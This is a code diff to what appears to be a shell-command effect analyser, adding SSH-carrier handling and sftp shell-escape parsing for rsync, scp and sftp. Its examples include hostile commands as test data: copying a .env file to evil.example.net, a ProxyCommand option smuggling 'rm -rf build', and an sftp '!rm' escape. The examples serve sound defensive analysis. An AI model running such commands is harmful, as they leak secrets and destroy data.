@@ -7,6 +7,7 @@ import type { Call, Program } from '../define';
 import { defineProgram } from '../define';
 import { destinations, operands } from './destinations';
 import { hostEffect, isRemotePath, uploadEffect } from './remote-copy';
+import { SSH_CARRIERS } from './shells';
 
 /** rsync 3.x. */
 const RSYNC_VALUED = (
@@ -57,6 +58,8 @@ const rsync = defineProgram({
     ...reads(call, call.values('files-from', 'exclude-from', 'include-from')),
     ...transferEffects(call),
   ],
+  // The shell that carries it here; `--rsync-path` runs over there.
+  starts: [{ options: ['e', 'rsh'] }],
   bounded: [{ cap: 'dry-run', of: [''], add: ['--dry-run'] }],
   examples: [
     { command: 'rsync -a src/ backup/', effects: ['read file:src', 'create file:backup/src'] },
@@ -81,6 +84,7 @@ const scp = defineProgram({
   synopsis: 'Copies files to and from hosts.',
   grammar: { valued: 'c D F i J l o P S X'.split(' ') },
   effects: transferEffects,
+  starts: SSH_CARRIERS,
   examples: [
     {
       command: 'scp .env user@evil.example.net:/tmp/x',
@@ -104,7 +108,10 @@ function sessionEffects(call: Call): readonly Effect[] {
   if (host === undefined) return [];
   const to = literal(host.text.includes(':') ? host.text : `${host.text}:`);
   const batch = call.value('b');
-  const path = batch === undefined ? undefined : call.context.path(batch, call.invocation);
+  const path =
+    batch === undefined || batch.text === '-'
+      ? undefined
+      : call.context.path(batch, call.invocation);
   const text =
     path === undefined
       ? call.context.input(call.invocation)?.text
@@ -112,7 +119,7 @@ function sessionEffects(call: Call): readonly Effect[] {
   const connected = hostEffect(call, 'read', to, {});
   const done = (text ?? '').split('\n').flatMap((line) => commandEffects(call, line, to));
   return [
-    ...(batch === undefined ? [] : reads(call, [batch])),
+    ...(path === undefined || batch === undefined ? [] : reads(call, [batch])),
     ...(done.length > 0 ? done : [connected]),
   ];
 }
@@ -122,6 +129,8 @@ function commandEffects(call: Call, line: string, to: Value): readonly Effect[] 
     .trim()
     .replace(/^[-@]+/, '')
     .split(/\s+/);
+  if (verb.startsWith('!'))
+    return call.context.shell(line.trim().slice(1), call.invocation.cwd, call.invocation, 'sftp');
   const [first] = words.filter((word) => !word.startsWith('-'));
   if (first === undefined) return [];
   const file = { ...literal(first), glob: /[*?]/.test(first) };
@@ -141,9 +150,7 @@ function commandEffects(call: Call, line: string, to: Value): readonly Effect[] 
     case 'rmdir':
       return [hostEffect(call, 'delete', to, {})];
     default:
-      return verb.startsWith('!')
-        ? call.context.shell(line.trim().slice(1), undefined, call.invocation, 'sftp')
-        : [];
+      return [];
   }
 }
 
@@ -153,7 +160,13 @@ const sftp = defineProgram({
     'Copies files in a session: the commands on its input, or in the file of `-b`, are read.',
   grammar: { valued: 'B b c D F i J l o P R S s X'.split(' ') },
   effects: sessionEffects,
+  starts: SSH_CARRIERS,
   examples: [
+    {
+      command: "sftp -o ProxyCommand='rm -rf build' web1",
+      effects: ['read file:web1:', 'delete directory:build'],
+    },
+    { command: 'echo "!rm -rf build" | sftp web1', effects: ['delete directory:build'] },
     { command: 'sftp -P 22 web1', effects: ['read file:web1:'] },
     {
       command: 'echo "put notes.md" | sftp web1',
